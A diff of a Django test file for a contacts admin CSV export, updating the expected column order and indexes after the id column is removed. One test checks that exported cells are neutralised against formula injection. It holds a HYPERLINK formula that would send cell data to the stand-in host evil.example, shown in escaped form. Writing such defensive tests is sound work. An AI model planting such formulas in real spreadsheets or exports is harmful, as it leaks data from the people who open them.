@@ -72,7 +72,7 @@ def test_tag_and_list_actions_and_csv_export(marketer):
     export = client.post("/admin/contacts/contact/", {"action": "export_csv", "_selected_action": ids})
     body = b"".join(export.streaming_content).decode()
     lines = body.strip().splitlines()
-    assert lines[0].startswith("id,email,phone")
+    assert lines[0].startswith("email,phone,first_name,last_name")
     assert len(lines) == 3
     assert "Spring" in lines[1]
 
@@ -135,9 +135,9 @@ def test_csv_export_neutralises_formulas(marketer):
     )
     export = client.post("/admin/contacts/contact/", {"action": "export_csv", "_selected_action": [str(contact.pk)]})
     rows = list(csv.reader(io.StringIO(b"".join(export.streaming_content).decode())))
-    assert rows[1][3] == '\'=HYPERLINK("http://evil.example/?x="&A1,"click")'
-    assert rows[1][4] == "'@SUM(1+1)"
-    assert rows[1][1] == contact.email
+    assert rows[1][2] == '\'=HYPERLINK("http://evil.example/?x="&A1,"click")'
+    assert rows[1][3] == "'@SUM(1+1)"
+    assert rows[1][0] == contact.email
 
 
 def test_admin_contact_for_an_erased_address_stays_suppressed(marketer):
